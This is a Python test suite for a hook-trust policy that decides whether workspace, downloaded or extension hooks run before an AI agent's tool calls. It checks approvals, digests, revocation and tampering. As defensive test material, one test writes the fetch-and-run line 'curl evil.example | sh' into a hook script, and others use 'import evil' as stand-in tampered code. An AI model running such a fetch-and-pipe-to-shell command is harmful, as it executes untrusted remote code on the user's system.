import asyncio
import json
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from hookline.errors import ConfigError, StoreError
from hookline.model.event import Event, EventName
from hookline.model.hook import Hook, Source
from hookline.model.plan import Gate, Plan
from hookline.trust.policy import ONCE, TrustedHooks, TrustedHooksConfig, TrustStatus

EVENT = Event(name=EventName.BEFORE_TOOL)


def script(folder: Path, text: str = "print(1)", name: str = "hook.py") -> Path:
    path = folder / name
    path.write_text(text)
    return path


def workspace_hook(path: Path, **changes: object) -> Hook:
    return replace(Hook(id="h", command="python3", args=(str(path),), source=Source.WORKSPACE), **changes)


def approved(hook: Hook) -> TrustedHooks:
    trust = TrustedHooks()
    asyncio.run(trust.store_approval(hook, trust.digest(hook)))
    return trust


def trusts(trust: TrustedHooks, hook: Hook) -> bool:
    return asyncio.run(trust.is_trusted(hook))


@pytest.mark.spec("P-02")
@pytest.mark.parametrize(
    ("source", "wanted"),
    [
        (Source.BUILTIN, True),
        (Source.USER, True),
        (Source.WORKSPACE, False),
        (Source.DOWNLOADED, False),
        (Source.EXTENSION, False),
    ],
)
def test_source_decides_whether_approval_is_needed(source: Source, *, wanted: bool) -> None:
    assert trusts(TrustedHooks(), Hook(id="h", command="node", source=source)) is wanted


def test_hook_whose_source_was_forgotten_is_not_trusted() -> None:
    assert not trusts(TrustedHooks(), Hook(id="h", command="node"))


def test_trusted_workspace_covers_workspace_hooks_only() -> None:
    trust = TrustedHooks(TrustedHooksConfig(trust_workspace=True))

    assert trusts(trust, Hook(id="h", command="node", source=Source.WORKSPACE))
    assert not trusts(trust, Hook(id="h", command="node", source=Source.DOWNLOADED))
    assert not trusts(trust, Hook(id="h", command="node", source=Source.EXTENSION))


@pytest.mark.spec("O-10", "O-15", "O-19")
def test_script_changed_after_approval_needs_a_new_one(tmp_path: Path) -> None:
    path = script(tmp_path)
    hook = workspace_hook(path)
    trust = approved(hook)
    assert trusts(trust, hook)

    path.write_text("print(2)")

    assert not trusts(trust, hook)
    assert trust.reason_denied(hook) == "changed since it was approved"


@pytest.mark.spec("O-15")
@pytest.mark.parametrize(
    "changes",
    [
        {"args": ("x",)},
        {"command": "node"},
        {"matcher": "shell"},
        {"timeout": 3.0},
        {"env": {"A": "b"}},
        {"shell": True},
        {"on": ("before_tool",)},
        {"working_directory": "sub"},
        {"dialect": "ollm"},
    ],
)
def test_any_change_of_the_definition_is_a_change(tmp_path: Path, changes: dict[str, object]) -> None:
    hook = workspace_hook(script(tmp_path))

    assert not trusts(approved(hook), replace(hook, **changes))


def test_moving_in_the_file_is_no_change(tmp_path: Path) -> None:
    hook = workspace_hook(script(tmp_path))

    moved = replace(hook, id="h-2", source_path="settings.json", source_line=12, enabled=False)
    assert trusts(approved(hook), moved)


def test_script_behind_a_shell_line_or_a_relative_name_counts(tmp_path: Path) -> None:
    path = script(tmp_path, name="guard.sh")
    for hook in (
        Hook(id="h", command="bash guard.sh --fast", shell=True),
        Hook(id="h", command="bash", args=("guard.sh",)),
        Hook(id="h", command="bash guard.sh"),
        Hook(id="h", command="cd . && ./guard.sh; true", shell=True),
        Hook(id="h", command="x=$('./guard.sh')|cat", shell=True),
        Hook(id="h", command="bash", args=("guard.sh",), source_path="guard.sh"),
    ):
        path.write_text("echo 1")
        trust = TrustedHooks()
        first = trust.digest(hook, cwd=str(tmp_path))
        path.write_text("echo 2")
        assert trust.digest(hook, cwd=str(tmp_path)) != first


@pytest.mark.parametrize("place", [".", "conf", "conf/hooks", ".ollama/hooks", "lib"])
@pytest.mark.parametrize("module", ["guard", "guard.check"])
def test_module_of_a_python_hook_counts_wherever_it_is_found(tmp_path: Path, place: str, module: str) -> None:
    (tmp_path / place).mkdir(parents=True, exist_ok=True)
    path = script(tmp_path / place, name="guard.py")
    hook = Hook(
        id="h",
        module=module,
        function="check",
        working_directory="lib",
        source_path="conf/settings.json",
        source_line=3,
    )
    trust = TrustedHooks()
    first = trust.digest(hook, cwd=str(tmp_path))
    path.write_text("print(3)")

    assert trust.digest(hook, cwd=str(tmp_path)) != first


def test_large_script_changed_in_place_is_noticed(tmp_path: Path) -> None:
    path = script(tmp_path, "#" * 100_000)
    hook = workspace_hook(path)
    trust = approved(hook)
    assert trusts(trust, hook)

    with path.open("r+") as file:
        file.write("print(1)#")

    assert not trusts(trust, hook)


def test_pipe_in_place_of_a_script_does_not_hang(tmp_path: Path) -> None:
    import os  # noqa: PLC0415

    os.mkfifo(tmp_path / "pipe")

    assert TrustedHooks().digest(workspace_hook(tmp_path / "pipe"))


@pytest.mark.spec("O-10", "P-02")
def test_person_is_asked_once_and_the_yes_is_stored(tmp_path: Path) -> None:
    asked: list[tuple[str, str]] = []

    async def approve(hook: Hook, digest: str) -> bool:
        asked.append((hook.id, digest))
        return True

    store = tmp_path / "data" / "approvals.json"
    hook = workspace_hook(script(tmp_path))
    trust = TrustedHooks(TrustedHooksConfig(storage_path=store, approve=approve))
    plan = Plan(((hook,),))

    assert asyncio.run(trust.vet(plan, EVENT)).stages == plan.stages
    assert asyncio.run(trust.vet(plan, EVENT)).stages == plan.stages
    assert asked == [("h", trust.digest(hook))]
    assert trusts(TrustedHooks(TrustedHooksConfig(storage_path=store)), hook)


def test_events_at_the_same_time_ask_one_question(tmp_path: Path) -> None:
    asked = 0

    async def approve(_hook: Hook, _digest: str) -> bool:
        nonlocal asked
        asked += 1
        await asyncio.sleep(0)
        return True

    async def scenario() -> list[bool]:
        trust = TrustedHooks(TrustedHooksConfig(approve=approve))
        hook = workspace_hook(script(tmp_path))
        return await asyncio.gather(*(trust.request_approval(hook) for _ in range(5)))

    assert asyncio.run(scenario()) == [True] * 5
    assert asked == 1


@pytest.mark.parametrize("said", ["yes", 1, None])
def test_anything_but_true_is_no_approval(tmp_path: Path, said: object) -> None:
    async def approve(_hook: Hook, _digest: str) -> bool:
        return said  # type: ignore[return-value] # what a careless callback does

    trust = TrustedHooks(TrustedHooksConfig(approve=approve))

    assert not asyncio.run(trust.request_approval(workspace_hook(script(tmp_path))))


def test_callback_that_fails_is_no_approval_and_may_be_asked_again(tmp_path: Path) -> None:
    calls = 0

    async def approve(_hook: Hook, _digest: str) -> bool:
        nonlocal calls
        calls += 1
        if calls == 1:
            raise RuntimeError("no terminal")
        return True

    trust = TrustedHooks(TrustedHooksConfig(approve=approve))
    hook = workspace_hook(script(tmp_path))

    assert [asyncio.run(trust.request_approval(hook)) for _ in range(2)] == [False, True]


def test_who_waits_asks_again_when_who_asked_was_cancelled(tmp_path: Path) -> None:
    calls = 0

    async def approve(_hook: Hook, _digest: str) -> bool:
        nonlocal calls
        calls += 1
        if calls == 1:
            await asyncio.Event().wait()
        return True

    async def scenario() -> list[object]:
        trust = TrustedHooks(TrustedHooksConfig(approve=approve))
        hook = workspace_hook(script(tmp_path))
        first, second = (asyncio.create_task(trust.request_approval(hook)) for _ in range(2))
        await asyncio.sleep(0)
        await asyncio.sleep(0)
        first.cancel()
        return list(await asyncio.wait_for(asyncio.gather(first, second, return_exceptions=True), 10))

    first, second = asyncio.run(scenario())
    assert isinstance(first, asyncio.CancelledError)
    assert second is True
    assert calls == 2


def test_plain_function_may_approve(tmp_path: Path) -> None:
    trust = TrustedHooks(TrustedHooksConfig(approve=lambda _hook, _digest: True))

    assert asyncio.run(trust.request_approval(workspace_hook(script(tmp_path))))


def test_approval_taken_back_by_another_process_is_gone_here(tmp_path: Path) -> None:
    config = TrustedHooksConfig(storage_path=tmp_path / "approvals.json")
    here, there = TrustedHooks(config), TrustedHooks(config)
    hook = workspace_hook(script(tmp_path))
    asyncio.run(here.store_approval(hook, here.digest(hook)))
    assert trusts(there, hook)

    assert asyncio.run(there.remove_approval("h"))

    assert not trusts(here, hook)
    asyncio.run(here.save())
    assert not trusts(there, hook)


@pytest.mark.parametrize(
    "line",
    [
        "./guard.sh>>log",
        "bash<guard.sh",
        "./guard.sh;true",
        "bash -c 'bash guard.sh'",
        '"$OLLAMA_PROJECT_DIR"/guard.sh',
        "${PWD}/guard.sh",
        "cd sub && ./inner.sh",
        "x=./guard.sh; $x",
        "node --require=./guard.sh",
        "python3 -m lintmod",
        "node sub/tool",
    ],
)
def test_script_counts_however_the_line_names_it(tmp_path: Path, line: str) -> None:
    (tmp_path / "sub").mkdir()
    files = [tmp_path / name for name in ("guard.sh", "sub/inner.sh", "lintmod.py", "sub/tool.js")]
    for path in files:
        path.write_text("1")
    hook = Hook(id="h", command=line, dialect="cli-agent")
    trust = TrustedHooks()
    first = trust.digest(hook, cwd=str(tmp_path))
    for path in files:
        path.write_text("2")

    assert trust.digest(hook, cwd=str(tmp_path)) != first


def test_own_hook_that_would_run_a_script_of_the_workspace_is_judged_by_it(tmp_path: Path) -> None:
    project, home = tmp_path / "project", tmp_path / "home"
    for folder in (project, home):
        (folder / "hooks").mkdir(parents=True)
    line = Hook(
        id="h",
        command="python hooks/policy.py",
        shell=True,
        source=Source.USER,
        source_path=str(home / "settings.json"),
        source_line=3,
    )
    trust = TrustedHooks()
    assert trust.reason_denied(line, cwd=str(project)) == ""

    (project / "hooks" / "policy.py").write_text("import evil")

    assert (
        trust.reason_denied(line, cwd=str(project)) == 'runs "hooks/policy.py" of this workspace, which is not approved'
    )
    (home / "hooks" / "policy.py").write_text("fine")
    assert trust.reason_denied(line, cwd=str(home)) == ""


def test_no_is_remembered_while_the_engine_lives(tmp_path: Path) -> None:
    asked = 0

    async def approve(_hook: Hook, _digest: str) -> bool:
        nonlocal asked
        asked += 1
        return False

    trust = TrustedHooks(TrustedHooksConfig(approve=approve))
    hook = workspace_hook(script(tmp_path))
    for _ in range(3):
        plan = asyncio.run(trust.vet(Plan(((hook,),)), EVENT))
        assert plan.stages == ()
    assert asked == 1


def test_script_swapped_while_the_person_reads_is_not_approved(tmp_path: Path) -> None:
    path = script(tmp_path)

    async def approve(_hook: Hook, _digest: str) -> bool:
        path.write_text("import evil")
        return True

    trust = TrustedHooks(TrustedHooksConfig(approve=approve))

    assert not asyncio.run(trust.request_approval(workspace_hook(path)))
    assert trust.get_approvals() == []


@pytest.mark.spec("O-10")
def test_yes_once_holds_for_this_engine_and_these_bytes_only(tmp_path: Path) -> None:
    path, store = script(tmp_path), tmp_path / "approvals.json"
    asked = 0

    def approve(_hook: Hook, _digest: str) -> str:
        nonlocal asked
        asked += 1
        return ONCE

    trust = TrustedHooks(TrustedHooksConfig(storage_path=store, approve=approve))
    hook = workspace_hook(path)
    for _ in range(3):
        assert asyncio.run(trust.vet(Plan(((hook,),)), EVENT)).stages
    assert trust.decide(hook).status is TrustStatus.ONCE
    assert asked == 1
    assert trust.get_approvals() == []
    assert not trusts(TrustedHooks(TrustedHooksConfig(storage_path=store)), hook)

    path.write_text("print(2)")

    assert trust.reason_denied(hook) == "workspace hook that is not approved"


def test_yes_once_ends_when_something_is_taken_back(tmp_path: Path) -> None:
    trust = TrustedHooks(TrustedHooksConfig(approve=lambda _hook, _digest: "once"))
    hook = workspace_hook(script(tmp_path))
    assert asyncio.run(trust.request_approval(hook))

    trust.revoke("h")

    assert not trusts(trust, hook)


def test_what_was_vetted_goes_with_the_plan(tmp_path: Path) -> None:
    path = script(tmp_path)
    hook = workspace_hook(path)
    other = Hook(id="webhook", url="https://example.org/x")
    mine = Hook(id="mine", command="node", source=Source.USER)
    trust = approved(hook)
    asyncio.run(trust.store_approval(other, trust.digest(other)))

    plan = asyncio.run(trust.vet(Plan(((hook, mine), (other,))), EVENT))
    path.write_text("import evil")

    assert plan.sealed == {"h": {str(path): b"print(1)"}, "webhook": {}}


def test_hook_of_a_trusted_workspace_is_not_sealed(tmp_path: Path) -> None:
    trust = TrustedHooks(TrustedHooksConfig(trust_workspace=True))

    plan = asyncio.run(trust.vet(Plan(((workspace_hook(script(tmp_path)),),)), EVENT))

    assert plan.sealed == {}


@pytest.mark.spec("O-11")
def test_trusted_folders_cover_the_hooks_in_them_only(tmp_path: Path) -> None:
    (tmp_path / "mine" / "sub").mkdir(parents=True)
    (tmp_path / "mine-not").mkdir()
    (tmp_path / "mine" / "out").symlink_to(tmp_path / "mine-not")
    trust = TrustedHooks(TrustedHooksConfig(trusted_workspaces=(tmp_path / "mine",)))

    def may(root: str, source: Source = Source.WORKSPACE, cwd: str = "") -> bool:
        hook = Hook(id="h", command="node", source=source, root=str(tmp_path / root))
        return not trust.reason_denied(hook, cwd=str(tmp_path / (cwd or root)))

    assert may("mine")
    assert may("mine/sub")
    assert not may("mine-not")
    assert not may("mine/out")
    assert not may("mine", cwd="mine-not")
    assert not may("mine", Source.DOWNLOADED)
    assert not may("mine", Source.EXTENSION)


@pytest.mark.spec("D-20")
def test_hook_that_calls_itself_untrusted_needs_approval_and_one_that_calls_itself_trusted_does_too(
    tmp_path: Path,
) -> None:
    own = Hook(id="own", command="node", source=Source.USER, trusted=False)
    theirs = Hook(id="theirs", command="node", source=Source.WORKSPACE, trusted=True)
    trust = TrustedHooks()

    assert (
        trust.reason_denied(own, cwd=str(tmp_path)) == "says of itself that it is not trusted, and it is not approved"
    )
    assert trust.reason_denied(replace(own, trusted=True), cwd=str(tmp_path)) == ""
    assert trust.reason_denied(theirs, cwd=str(tmp_path)) == "workspace hook that is not approved"
    assert TrustedHooks(TrustedHooksConfig(trust_workspace=True)).reason_denied(own, cwd=str(tmp_path))
    trust.approve(own, cwd=str(tmp_path))
    assert trust.reason_denied(own, cwd=str(tmp_path)) == ""


def git(folder: Path, *words: str) -> None:
    env = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(folder),
        "GIT_CONFIG_NOSYSTEM": "1",
        **{f"GIT_{who}_{what}": "x@example.org" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")},
    }
    subprocess.run(["git", *words], cwd=folder, env=env, check=True, capture_output=True, timeout=60)


def made(folder: Path) -> Path:
    (folder / "hooks").mkdir(parents=True)
    (folder / "hooks" / "lint.sh").write_text("make lint\n")
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-qm", "first")
    return folder


def project_hook(root: Path) -> Hook:
    return Hook(
        id="lint",
        name="lint",
        command="bash",
        args=(str(root / "hooks/lint.sh"),),
        root=str(root),
        source_path=str(root / ".ollm" / "hooks" / "lint.json"),
        source_line=1,
    )


@pytest.mark.spec("D-07", "O-10")
def test_approval_follows_a_worktree_and_a_clone_and_no_other_project(tmp_path: Path) -> None:
    main, other = made(tmp_path / "main"), made(tmp_path / "other")
    git(main, "worktree", "add", "-q", str(tmp_path / "tree"))
    git(tmp_path, "clone", "-q", str(main), str(tmp_path / "clone"))
    trust = TrustedHooks(TrustedHooksConfig(storage_path=tmp_path / "approvals.json"))

    def objection(root: Path) -> str:
        return trust.reason_denied(project_hook(root), cwd=str(root))

    approval = trust.approve(project_hook(main), cwd=str(main), note="looked at it")

    assert (approval.repository, approval.source_path) == (f"file:{main}/.git", ".ollm/hooks/lint.json")
    assert approval.note == "looked at it"
    assert objection(main) == objection(tmp_path / "tree") == objection(tmp_path / "clone") == ""
    assert objection(other) == (
        f"workspace hook that is not approved here: it was approved in file:{main}/.git, "
        f"and this folder belongs to file:{other}/.git"
    )
    (tmp_path / "clone" / "hooks" / "lint.sh").write_text("curl evil.example | sh\n")
    assert objection(tmp_path / "clone") == "changed since it was approved"
    assert objection(main) == ""


def test_other_project_at_the_same_place_asks_again(tmp_path: Path) -> None:
    root = made(tmp_path / "project")
    trust = TrustedHooks(TrustedHooksConfig(storage_path=tmp_path / "approvals.json"))
    trust.approve(project_hook(root), cwd=str(root))
    root.rename(tmp_path / "moved")
    (root / "hooks").mkdir(parents=True)
    (root / "hooks" / "lint.sh").write_text("something else\n")

    later = TrustedHooks(TrustedHooksConfig(storage_path=tmp_path / "approvals.json"))

    assert later.reason_denied(project_hook(root), cwd=str(root))


def test_change_is_told_from_a_new_hook_also_when_the_id_is_another(tmp_path: Path) -> None:
    root = made(tmp_path / "project")
    trust = TrustedHooks()
    trust.approve(project_hook(root), cwd=str(root))
    (root / "hooks" / "lint.sh").write_text("other\n")

    found = trust.decide(replace(project_hook(root), id="lint-2"), cwd=str(root))

    assert (found.status, found.reason_denied) == (TrustStatus.CHANGED, "changed since it was approved")
    assert found.earlier is not None
    assert found.earlier.by
    assert trust.decide(replace(project_hook(root), id="x", name="y"), cwd=str(root)).status is TrustStatus.UNAPPROVED


@pytest.mark.spec("O-15")
def test_swapped_interpreter_keeps_the_hook_from_running(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tool = tmp_path / "bin" / "mylang"
    tool.parent.mkdir()
    tool.write_text("#!/bin/sh\nexec true\n")
    tool.chmod(0o755)
    (tmp_path / "project").mkdir()
    hook = workspace_hook(script(tmp_path / "project"), command="mylang", root=str(tmp_path / "project"))
    monkeypatch.setenv("PATH", f"{tool.parent}:/usr/bin:/bin")
    config = TrustedHooksConfig(storage_path=tmp_path / "approvals.json")
    trust = TrustedHooks(config)
    trust.approve(hook, cwd=str(tmp_path / "project"))
    assert trust.reason_denied(hook, cwd=str(tmp_path / "project")) == ""

    tool.write_text("#!/bin/sh\nexec evil\n")

    for one in (trust, TrustedHooks(config)):
        found = one.decide(hook, cwd=str(tmp_path / "project"))
        assert found.reason_denied == '"mylang" is not the program it was when this was approved'
        assert found.status is TrustStatus.CHANGED


@pytest.mark.spec("O-15")
def test_edited_include_import_or_link_keeps_the_hook_from_running(tmp_path: Path) -> None:
    root = tmp_path / "project"
    (root / "lib").mkdir(parents=True)
    (root / "lib" / "rules.txt").write_text("1")
    (root / "helper.py").write_text("1")
    (tmp_path / "one.py").write_text("import helper")
    (tmp_path / "two.py").write_text("import evil, helper")
    link = root / "hook.py"
    link.symlink_to(tmp_path / "one.py")
    hook = Hook(id="h", command="python3", args=("hook.py",), includes=("lib",), root=str(root))
    trust = TrustedHooks()
    trust.approve(hook, cwd=str(root))
    assert trust.reason_denied(hook, cwd=str(root)) == ""

    for path in (root / "lib" / "rules.txt", root / "helper.py"):
        path.write_text("2")
        assert trust.reason_denied(hook, cwd=str(root)) == "changed since it was approved"
        path.write_text("1")
        assert trust.reason_denied(hook, cwd=str(root)) == ""
    link.unlink()
    link.symlink_to(tmp_path / "two.py")

    assert trust.reason_denied(hook, cwd=str(root)) == "changed since it was approved"


def test_program_of_the_system_is_known_by_its_path(tmp_path: Path) -> None:
    trust = TrustedHooks()

    approval = trust.approve(Hook(id="h", command="/bin/sh", args=("-c", "true")), cwd=str(tmp_path))

    assert approval.programs is not None
    assert ("/bin/sh", "/bin/sh", "") in {(one.name, one.path, one.sha256) for one in approval.programs}


def test_approval_for_a_digest_is_refused_when_it_is_another_by_now(tmp_path: Path) -> None:
    path = script(tmp_path)
    hook = workspace_hook(path)
    trust = TrustedHooks()
    digest = trust.digest(hook)
    assert trust.approve(hook, digest=digest).digest == digest
    path.write_text("import evil")

    with pytest.raises(ConfigError, match="no longer what you looked at"):
        trust.approve(hook, digest=digest)


def test_hook_with_too_many_includes_cannot_be_approved(tmp_path: Path) -> None:
    for number in range(2_001):
        (tmp_path / f"{number}.txt").touch()
    hook = Hook(id="h", command="node", includes=("*",), root=str(tmp_path))
    trust = TrustedHooks(TrustedHooksConfig(approve=lambda _hook, _digest: True))

    with pytest.raises(ConfigError, match="more than 2000 files"):
        trust.approve(hook)
    assert asyncio.run(trust.vet(Plan(((hook,),)), EVENT)).stages == ()


def test_approvals_are_taken_back_by_id_name_file_or_digest(tmp_path: Path) -> None:
    hook = workspace_hook(script(tmp_path), name="guard", source_path="settings.json", source_line=3)
    trust = TrustedHooks()
    for name in ("h", "guard", "settings.json", trust.digest(hook), trust.digest(hook)[:8]):
        trust.approve(hook)
        assert [one.hook for one in trust.revoke(name)] == ["h"]
        assert not trusts(trust, hook)
    trust.approve(hook)
    assert trust.revoke(trust.digest(hook)[:7], "", "other") == []


def test_approvals_are_taken_back_by_the_path_of_their_file_in_this_project_only(tmp_path: Path) -> None:
    one, two = made(tmp_path / "one"), made(tmp_path / "two")
    trust = TrustedHooks()
    for root in (one, two):
        (root / ".ollm" / "hooks").mkdir(parents=True)
        trust.approve(project_hook(root), cwd=str(root))

    assert asyncio.run(trust.remove_approval(project_hook(one).source_path))

    assert [approval.repository for approval in trust.get_approvals()] == [f"file:{two}/.git"]


def test_untrusted_hook_is_skipped_with_a_reason_and_the_others_stay() -> None:
    mine = Hook(id="mine", command="node", source=Source.USER)
    theirs = Hook(id="theirs", command="node", source=Source.DOWNLOADED)

    plan = asyncio.run(TrustedHooks().vet(Plan(((mine,), (theirs,))), EVENT))

    assert plan.stages == ((mine,),)
    assert [(skip.hook.id, skip.gate, skip.reason) for skip in plan.skipped] == [
        ("theirs", Gate.TRUST, "downloaded hook that is not approved")
    ]


@pytest.mark.spec("O-19")
def test_every_call_of_the_document_answers(tmp_path: Path) -> None:
    async def scenario() -> None:
        store = tmp_path / "approvals.json"
        hook = workspace_hook(script(tmp_path), source_path="settings.json", source_line=3)
        trust = TrustedHooks(TrustedHooksConfig(storage_path=store))
        await trust.load()
        assert not await trust.is_trusted(hook)
        assert not await trust.request_approval(hook)
        await trust.store_approval(hook, await trust.compute_hash(hook))
        assert await trust.is_trusted(hook)
        assert [(one.hook, one.source_path) for one in trust.get_approvals()] == [("h", "settings.json")]
        await trust.save()
        other = TrustedHooks(TrustedHooksConfig(storage_path=store))
        assert await other.is_trusted(hook)
        assert await other.remove_approval("settings.json")
        assert not await other.remove_approval("settings.json")
        await trust.load()
        assert not await trust.is_trusted(hook)
        await trust.store_approval(hook, await trust.compute_hash(hook))
        await trust.clear_approvals()
        assert trust.get_approvals() == []
        assert json.loads(store.read_text())["approvals"] == []

    asyncio.run(scenario())


def test_approvals_are_for_their_owner_only(tmp_path: Path) -> None:
    store = tmp_path / "data" / "approvals.json"
    trust = TrustedHooks(TrustedHooksConfig(storage_path=store))
    asyncio.run(trust.store_approval(Hook(id="h", command="node"), "0" * 64))

    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    assert stat.S_IMODE(store.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize("content", ["", "{", "[]", '{"approvals": [{"hook": 3}]}', "\x00\xff"])
def test_broken_approvals_are_an_error_and_not_an_empty_list(tmp_path: Path, content: str) -> None:
    store = tmp_path / "approvals.json"
    store.write_text(content)
    trust = TrustedHooks(TrustedHooksConfig(storage_path=store))

    with pytest.raises(StoreError, match=r"approvals\.json is no list of approvals .*move it away"):
        asyncio.run(trust.is_trusted(Hook(id="h", command="node")))
    assert store.read_text() == content


_WRITER = """
import asyncio, sys
from pathlib import Path
from hookline import Hook, TrustedHooks, TrustedHooksConfig

trust = TrustedHooks(TrustedHooksConfig(storage_path=Path(sys.argv[1])))
for number in range(20):
    name = sys.argv[2] + str(number)
    asyncio.run(trust.store_approval(Hook(id=name, command="node"), name.rjust(64, "0")))
"""


def test_two_writers_lose_no_approval(tmp_path: Path) -> None:
    store = tmp_path / "approvals.json"
    writers = [subprocess.Popen([sys.executable, "-c", _WRITER, str(store), name]) for name in "ab"]
    assert [writer.wait(60) for writer in writers] == [0, 0]

    trust = TrustedHooks(TrustedHooksConfig(storage_path=store))
    assert {one.hook for one in trust.get_approvals()} == {f"{name}{n}" for name in "ab" for n in range(20)}


@pytest.mark.spec("O-33")
@given(st.text(max_size=30), st.text(max_size=30))
def test_equal_definitions_have_equal_digests_and_others_do_not(one: str, two: str) -> None:
    trust = TrustedHooks()
    first = trust.digest(Hook(id="h", command="node", args=(one,)), cwd="/nowhere")
    second = trust.digest(Hook(id="h", command="node", args=(two,)), cwd="/nowhere")

    assert (first == second) is (one == two)
